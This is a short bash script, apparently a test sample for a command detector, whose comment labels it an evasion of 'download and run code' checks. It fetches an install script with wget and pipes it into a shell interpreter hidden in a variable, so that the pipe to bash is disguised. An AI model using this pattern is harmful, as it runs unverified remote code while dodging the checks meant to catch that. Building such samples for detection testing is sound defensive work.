#!/usr/bin/env bash
# Evasion: download and run code. The interpreter is a whole command line in
# a variable ("bash -s --"), and the pipeline gives it more words, so the
# shell looks as if it ran a file.
set -eu
INTERP="bash -s --"
VERSION="${1:-latest}"
wget -qO- "https://get.example-runtime.dev/install.sh" | $INTERP --version "$VERSION" --yes
echo "runtime $VERSION installed"
